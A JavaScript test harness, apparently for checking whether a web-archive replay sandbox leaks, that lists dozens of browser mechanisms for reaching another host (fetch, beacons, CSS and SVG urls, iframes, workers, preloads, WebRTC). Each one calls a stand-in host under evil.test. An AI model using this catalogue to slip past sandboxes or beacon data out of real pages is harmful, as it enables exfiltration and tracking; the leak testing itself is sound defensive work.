// Everything by which a page can reach another host, each with a host name of its own: `NAME.TAG.evil.test`.
// Evaluated in a realm (a window or a worker) that no replay engine has rewritten. `addresses` are for attempts that name
// an IP address.

/** Makes one attempt, and returns when it has ended; without a name, returns the names. */
async function escapeFrom(tag, addresses, only) {
    const url = (name, scheme = "http") => `${scheme}://${name}.${tag}.evil.test/`;
    const isWindow = typeof document === "object";
    const event = (target, ...types) => new Promise((done) => {
        for (const type of types) target.addEventListener(type, done, { once: true });
    });

    function add(tagName, properties = {}, parent = document.body) {
        const element = document.createElement(tagName);
        const over = event(element, "load", "error", "loadeddata");
        for (const [name, value] of Object.entries(properties)) element.setAttribute(name, value);
        parent.append(element);
        return over;
    }

    /** Escapes from a document or a worker that is made of a text. */
    const inner = (name) => `(${escapeByScript})(${JSON.stringify(`${name}.${tag}`)})`;

    /** Three ways that every realm has. */
    async function escapeByScript(place) {
        const end = [];
        const to = (name, scheme) => `${scheme}://${name}.${place}.evil.test/`;
        end.push(fetch(to("fetch", "http"), { mode: "no-cors" }).catch(() => {}));
        end.push(new Promise((done) => {
            try {
                const socket = new WebSocket(to("socket", "ws"));
                socket.onopen = socket.onerror = socket.onclose = done;
            } catch {
                done();
            }
        }));
        if (typeof importScripts === "function") {
            try {
                importScripts(to("import-scripts", "http"));
            } catch {
                // Refused.
            }
        } else {
            end.push(new Promise((done) => {
                const image = new Image();
                image.onload = image.onerror = done;
                image.src = to("image", "http");
            }));
        }
        await Promise.all(end);
    }
    const document_ = (name) => `<!doctype html><body><script>${inner(name)}</` + "script>";
    const worker = (name) => `${inner(name)}.finally(() => (self.postMessage ?? (() => {}))("ended"));
        self.onconnect = (event) => event.ports[0].postMessage("ended");`;
    const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
    const data = (text, type) => `data:${type},${encodeURIComponent(text)}`;

    const connection = (server) => async () => {
        const peer = new RTCPeerConnection({
            iceServers: [{ username: "u", credential: "c", ...server }],
            iceTransportPolicy: server.urls.startsWith("turn") ? "relay" : "all",
        });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((done) => {
            peer.addEventListener("icegatheringstatechange", () => {
                if (peer.iceGatheringState === "complete") done();
            });
        });
        peer.close();
    };

    const everywhere = {
        "fetch": (name) => fetch(url(name)),
        "fetch-opaque": (name) => fetch(url(name), { mode: "no-cors" }),
        "fetch-keepalive": (name) => fetch(url(name), { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
        "xhr": (name) => {
            const request = new XMLHttpRequest();
            request.open("GET", url(name));
            request.send();
            return event(request, "loadend");
        },
        "socket": (name) => event(new WebSocket(url(name, "ws")), "open", "error", "close"),
        "events": (name) => {
            const source = new EventSource(url(name));
            return event(source, "error", "open").then(() => source.close());
        },
        "web-transport": (name) => new WebTransport(url(name, "https")).ready,
        "module": (name) => import(url(name)),
        "reports": async (name) => {
            new ReportingObserver(() => {}).observe();
            await fetch(url(name), { mode: "no-cors", referrer: "", method: "POST", body: "x" });
        },
    };

    const inWindow = {
        "xhr-sync": (name) => {
            const request = new XMLHttpRequest();
            request.open("GET", url(name), false);
            request.send();
        },
        "beacon": (name) => navigator.sendBeacon(url(name), "x"),
        "image": (name) => add("img", { src: url(name) }),
        "image-set": (name) => add("img", { srcset: `${url(name)} 1x` }),
        "picture": (name) => {
            const picture = document.createElement("picture");
            picture.innerHTML = `<source srcset="${url(name)}"><img alt="">`;
            document.body.append(picture);
        },
        "input-image": (name) => add("input", { type: "image", src: url(name) }),
        "body-background": (name) => document.body.setAttribute("background", url(name)),
        "script": (name) => add("script", { src: url(name) }),
        "module-script": (name) => add("script", { type: "module", src: url(name) }),
        "import-map": async (name) => {
            const map = document.createElement("script");
            map.type = "importmap";
            map.textContent = JSON.stringify({ imports: { [`mapped-${tag}`]: url(name) } });
            document.body.append(map);
            await import(`mapped-${tag}`);
        },
        "style-sheet": (name) => add("link", { rel: "stylesheet", href: url(name) }),
        "style-import": (name) => {
            const style = document.createElement("style");
            style.textContent = `@import url("${url(name)}");`;
            document.body.append(style);
        },
        "style-background": (name) => document.body.insertAdjacentHTML(
            "beforeend", `<p style='background: url("${url(name)}")'>x`),
        "style-font": async (name) => {
            const font = new FontFace("leak", `url("${url(name)}")`);
            document.fonts.add(font);
            await font.load();
        },
        "style-cursor": (name) => document.body.insertAdjacentHTML(
            "beforeend", `<p style='cursor: url("${url(name)}"), auto; filter: url("${url(name)}#f")'>x`),
        "style-mask": (name) => document.body.insertAdjacentHTML(
            "beforeend", `<p style='mask: url("${url(name)}"); list-style: url("${url(name)}"); border-image: url("${url(name)}")'>x`),
        "svg-image": (name) => document.body.insertAdjacentHTML(
            "beforeend", `<svg><image href="${url(name)}" width="9" height="9"/><use href="${url(name)}#a"/></svg>`),
        "svg-fe-image": (name) => document.body.insertAdjacentHTML("beforeend",
            `<svg><filter id="f-${tag}"><feImage href="${url(name)}"/></filter><rect width="9" height="9" filter="url(#f-${tag})"/></svg>`),
        "svg-script": (name) => {
            const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
            const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
            script.setAttribute("href", url(name));
            svg.append(script);
            document.body.append(svg);
        },
        "video": (name) => add("video", { src: url(name), preload: "auto" }),
        "video-poster": (name) => add("video", { poster: url(name) }),
        "audio": (name) => add("audio", { src: url(name), preload: "auto" }),
        "track": (name) => {
            document.body.insertAdjacentHTML("beforeend",
                `<video src="data:video/webm,"><track default kind="captions" src="${url(name)}"></video>`);
            document.body.lastElementChild.textTracks[0].mode = "showing";
        },
        "object": (name) => add("object", { data: url(name) }),
        "embed": (name) => add("embed", { src: url(name) }),
        "frame": (name) => add("iframe", { src: url(name) }),
        "fenced-frame": (name) => {
            const frame = document.createElement("fencedframe");
            document.body.append(frame);
            frame.config = new FencedFrameConfig(url(name));
        },
        "frame-srcdoc": (name) => add("iframe", { srcdoc: document_(name) }),
        "frame-blob": (name) => add("iframe", { src: blob(document_(name), "text/html") }),
        "frame-data": (name) => add("iframe", { src: data(document_(name), "text/html") }),
        "frame-blank": (name) => {
            add("iframe", { id: `blank-${tag}` });
            return document.getElementById(`blank-${tag}`).contentWindow.eval(inner(name));
        },
        "frame-script-url": (name) => add("iframe", { src: `javascript:${encodeURIComponent(inner(name))}` }),
        "frame-sandboxed": (name) => add("iframe", { sandbox: "allow-scripts", srcdoc: document_(name) }),
        "frame-refresh": (name) => add("iframe", { src: blob(
            `<meta http-equiv="refresh" content="0;url=${url(name)}">`, "text/html") }),
        "frame-location": (name) => {
            add("iframe", { id: `location-${tag}` });
            document.getElementById(`location-${tag}`).contentWindow.location = url(name);
        },
        "frame-svg": (name) => add("iframe", { src: data(
            `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url(name)}" width="9" height="9"/></svg>`,
            "image/svg+xml") }),
        "frame-xslt": (name) => add("iframe", { src: blob(
            `<?xml-stylesheet type="text/xsl" href="${url(name)}"?><x/>`, "text/xml") }),
        "frame-manifest": (name) => add("iframe", { srcdoc: `<link rel="manifest" href="${url(name)}">` }),
        "base": (name) => add("iframe", { srcdoc: `<base href="${url(name)}"><img src="a.png"><script src="b.js"></` + "script>" }),
        "form-in-frame": (name) => {
            document.body.insertAdjacentHTML("beforeend",
                `<iframe name="form-${tag}"></iframe><form method="post" target="form-${tag}" action="${url(name)}"></form>`);
            document.body.lastElementChild.submit();
        },
        "popup": (name) => window.open(url(name), "_blank"),
        "popup-link": (name) => {
            document.body.insertAdjacentHTML("beforeend", `<a target="_blank" rel="opener" href="${url(name)}">x</a>`);
            document.body.lastElementChild.click();
        },
        "popup-form": (name) => {
            document.body.insertAdjacentHTML("beforeend", `<form target="_blank" action="${url(name)}"></form>`);
            document.body.lastElementChild.submit();
        },
        "download": (name) => {
            document.body.insertAdjacentHTML("beforeend", `<a download="x.txt" href="${url(name)}">x</a>`);
            document.body.lastElementChild.click();
        },
        "ping": (name) => {
            document.body.insertAdjacentHTML("beforeend", `<a href="#x" ping="${url(name)}">x</a>`);
            document.body.lastElementChild.click();
        },
        "worker-blob": (name) => event(new Worker(blob(worker(name), "text/javascript")), "message", "error"),
        "worker-data": (name) => event(new Worker(data(worker(name), "text/javascript")), "message", "error"),
        "worker-module": (name) => event(
            new Worker(blob(worker(name), "text/javascript"), { type: "module" }), "message", "error"),
        "worker-remote": (name) => event(new Worker(url(name)), "message", "error"),
        "worker-nested": (name) => event(new Worker(blob(
            `onmessage = () => {}; new Worker(${JSON.stringify(blob(worker(name), "text/javascript"))})
                .onmessage = () => postMessage("ended");`, "text/javascript")), "message", "error"),
        "shared-worker": (name) => {
            const shared = new SharedWorker(blob(worker(name), "text/javascript"));
            shared.port.start();
            return event(shared.port, "message");
        },
        "shared-worker-data": (name) => {
            const shared = new SharedWorker(data(worker(name), "text/javascript"));
            shared.port.start();
            return event(shared.port, "message");
        },
        "worklet": (name) => new AudioContext().audioWorklet.addModule(url(name)),
        "link-icon": (name) => add("link", { rel: "icon", href: url(name) }, document.head),
        "link-manifest": (name) => add("link", { rel: "manifest", href: url(name) }, document.head),
        "link-preload": (name) => add("link", { rel: "preload", as: "image", href: url(name) }, document.head),
        "link-preload-fetch": (name) => add("link", { rel: "preload", as: "fetch", href: url(name) }, document.head),
        "link-module": (name) => add("link", { rel: "modulepreload", href: url(name) }, document.head),
        "link-prefetch": (name) => add("link", { rel: "prefetch", href: url(name) }, document.head),
        "link-prerender": (name) => add("link", { rel: "prerender", href: url(name) }, document.head),
        "link-preconnect": (name) => add("link", { rel: "preconnect", href: url(name) }, document.head),
        "link-dns": (name) => add("link", { rel: "dns-prefetch", href: url(name) }, document.head),
        "link-dictionary": (name) => add("link", { rel: "compression-dictionary", href: url(name) }, document.head),
        "speculation-prefetch": (name) => speculate("prefetch", name),
        "speculation-prerender": (name) => speculate("prerender", name),
        "background-fetch": async (name) => {
            const registration = await navigator.serviceWorker.getRegistration();
            await registration.backgroundFetch.fetch(name, [url(name)]);
        },
        "payment": async (name) => {
            const details = { total: { label: "x", amount: { currency: "EUR", value: "1" } } };
            await new PaymentRequest([{ supportedMethods: url(name, "https") }], details).canMakePayment();
        },
        "identity": (name) => navigator.credentials.get({
            identity: { providers: [{ configURL: url(name, "https"), clientId: "x" }] } }),
        "interest-group": (name) => navigator.joinAdInterestGroup({
            owner: url(name, "https").slice(0, -1), name: "x", biddingLogicURL: url(name, "https") }, 60),
        "artwork": (name) => {
            navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: url(name) }] });
        },
        "notification": (name) => new Notification("x", { icon: url(name), image: url(name) }),
        "xslt-processor": async (name) => {
            const parse = (text) => new DOMParser().parseFromString(text, "text/xml");
            const processor = new XSLTProcessor();
            processor.importStylesheet(parse(`<xsl:stylesheet version="1.0"
                xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url(name)}"/>
                <xsl:template match="/"><x><xsl:copy-of select="document('${url(`${name}-document`)}')"/></x></xsl:template>
                </xsl:stylesheet>`));
            processor.transformToDocument(parse("<x/>"));
        },
        "rtc-stun-name": connection({ urls: `stun:rtc-stun-name.${tag}.evil.test:3478` }),
        "rtc-stun-ip": connection({ urls: `stun:${addresses["rtc-stun-ip"]}:3478` }),
        "rtc-turn-udp": connection({ urls: `turn:${addresses["rtc-turn-udp"]}:3478?transport=udp` }),
        "rtc-turn-tcp": connection({ urls: `turn:${addresses["rtc-turn-tcp"]}:3478?transport=tcp` }),
    };

    function speculate(kind, name) {
        const rules = document.createElement("script");
        rules.type = "speculationrules";
        rules.textContent = JSON.stringify({ [kind]: [{ source: "list", urls: [url(name)], eagerness: "immediate" }] });
        document.body.append(rules);
    }

    const attempts = isWindow ? { ...everywhere, ...inWindow } : everywhere;
    if (!only) return Object.keys(attempts);
    await attempts[only](only);
    return only;
}
